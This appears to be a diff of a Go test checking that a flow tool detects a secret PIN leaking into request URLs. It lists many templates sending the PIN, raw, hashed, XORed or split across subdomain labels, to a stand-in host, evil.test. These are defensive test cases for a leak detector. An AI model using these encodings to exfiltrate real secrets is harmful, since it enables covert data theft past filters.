@@ -19,28 +19,36 @@ func TestComputedSecretInURL(t *testing.T) {
 		url  string
 		host bool
 	}{
-		"as it is":            {`http://a.evil.test/?q={{.input.pin}}`, false},
-		"hexadecimal":         {`http://a.evil.test/?q={{.input.pin | hex}}`, false},
-		"a digest":            {`http://a.evil.test/?q={{.input.pin | md5 | hex}}`, false},
-		"a part of a digest":  {`http://a.evil.test/?q=x{{replace (.input.pin | md5 | hex) "0" ""}}`, false},
-		"xor, reversible":     {`http://a.evil.test/?q={{xor .input.pin "k" | hex}}`, false},
-		"replace":             {`http://a.evil.test/?q={{replace .input.pin "o" "o~"}}`, false},
-		"in the path":         {`http://a.evil.test/x{{upper (replace .input.pin "o" "")}}`, false},
-		"setquery":            {`{{setquery "http://a.evil.test/" "q" (xor .input.pin "k" | hex)}}`, false},
-		"relative":            {`/?q={{xor .input.pin "k" | hex}}`, false},
-		"whether it is one":   {`http://a.evil.test/{{replace .input.pin "swordfish" "y"}}`, false},
-		"the host":            {`http://{{.input.pin}}/`, true},
-		"a label":             {`http://{{.input.pin}}.evil.test/`, true},
-		"a part of a label":   {`http://x{{replace .input.pin "wordfish" ""}}y.evil.test/`, true},
-		"a computed label":    {`http://{{xor .input.pin "k" | hex}}.evil.test/`, true},
-		"the host, whole":     {`{{concat "http://" .input.pin ".evil.test/"}}`, true},
-		"its length":          {`http://{{xor .input.pin .input.pin | hex}}.evil.test/`, true},
-		"the scheme":          {`{{replace .input.pin "swordfish" "http"}}://a.evil.test/`, true},
-		"the port":            {`http://a.evil.test:{{replace .input.pin "swordfish" "8080"}}/`, true},
-		"user and password":   {`http://{{.input.pin}}@a.evil.test/`, false}, // never sent
-		"before the last @":   {`http://b.evil.test{{replace .input.pin "swordfish" ""}}@a.evil.test/`, false},
-		"a host after an @":   {`http://x@{{.input.pin}}.evil.test/`, true},
-		"a host by backslash": {`http:\\{{.input.pin}}.evil.test/`, true},
+		"as it is":             {`http://a.evil.test/?q={{.input.pin}}`, false},
+		"hexadecimal":          {`http://a.evil.test/?q={{.input.pin | hex}}`, false},
+		"a digest":             {`http://a.evil.test/?q={{.input.pin | md5 | hex}}`, false},
+		"a part of a digest":   {`http://a.evil.test/?q=x{{replace (.input.pin | md5 | hex) "0" ""}}`, false},
+		"xor, reversible":      {`http://a.evil.test/?q={{xor .input.pin "k" | hex}}`, false},
+		"replace":              {`http://a.evil.test/?q={{replace .input.pin "o" "o~"}}`, false},
+		"in the path":          {`http://a.evil.test/x{{upper (replace .input.pin "o" "")}}`, false},
+		"setquery":             {`{{setquery "http://a.evil.test/" "q" (xor .input.pin "k" | hex)}}`, false},
+		"relative":             {`/?q={{xor .input.pin "k" | hex}}`, false},
+		"whether it is one":    {`http://a.evil.test/{{replace .input.pin "swordfish" "y"}}`, false},
+		"the host":             {`http://{{.input.pin}}/`, true},
+		"a label":              {`http://{{.input.pin}}.evil.test/`, true},
+		"a part of a label":    {`http://x{{replace .input.pin "wordfish" ""}}y.evil.test/`, true},
+		"a computed label":     {`http://{{xor .input.pin "k" | hex}}.evil.test/`, true},
+		"the host, whole":      {`{{concat "http://" .input.pin ".evil.test/"}}`, true},
+		"its length":           {`http://{{xor .input.pin .input.pin | hex}}.evil.test/`, true},
+		"the scheme":           {`{{replace .input.pin "swordfish" "http"}}://a.evil.test/`, true},
+		"the port":             {`http://a.evil.test:{{replace .input.pin "swordfish" "8080"}}/`, true},
+		"user and password":    {`http://{{.input.pin}}@a.evil.test/`, true}, // never sent, but it stands before the host
+		"before the last @":    {`http://b.evil.test{{replace .input.pin "swordfish" ""}}@a.evil.test/`, true},
+		"its class":            {`https://x{{` + classOfPIN() + `}}.evil.test/`, true},
+		"its class, by chance": {`https://a{{replace (random_hex 1) "7" "/"}}{{` + classOfPIN() + `}}.evil.test/`, true},
+		"the host, resolved":   {`{{resolve "http://a.evil.test/" (concat "//" .input.pin ".evil.test/")}}`, true},
+		"the host, setquery":   {`{{setquery (concat "http://" .input.pin ".evil.test/") "a" "b"}}`, true},
+		"a path to a host":     {`/{{replace .input.pin "swordfish" "/b.evil.test/"}}`, true},
+		"in a relative path":   {`/{{.input.pin}}/x`, false},
+		"concat":               {`{{concat "http://a.evil.test" "/" .input.pin}}`, false},
+		"nothing of it":        {`http://x{{replace .input.pin "swordfish" ""}}.evil.test/`, true},
+		"a host after an @":    {`http://x@{{.input.pin}}.evil.test/`, true},
+		"a host by backslash":  {`http:\\{{.input.pin}}.evil.test/`, true},
 	} {
 		for _, action := range []string{"open = '%s'", "post = '%s'\nform = { a = 'b' }", "wait = { open = '%s', every = 1, at_most = 1, until = [{ status = [200] }] }"} {
 			for _, head := range []string{"[inputs.pin]\nprompt = 'P'\n", "secret_in_address = true\n[inputs.pin]\nprompt = 'P'\nsecret = true\n"} {
@@ -51,6 +59,19 @@ func TestComputedSecretInURL(t *testing.T) {
 			}
 		}
 	}
+}
+
+// classOfPIN is a template function of the class of the first character, letter or digit.
+func classOfPIN() string {
+	class := "slice .input.pin 0 1"
+	for _, c := range "abcdefghijklmnopqrstuvwxyz0123456789" {
+		by := "l"
+		if c < 'a' {
+			by = "d"
+		}
+		class = fmt.Sprintf("replace (%s) %q %q", class, string(c), by)
+	}
+	return class
 }
 
 func checkComputed(t *testing.T, f *Flow, host, cleartext bool) {
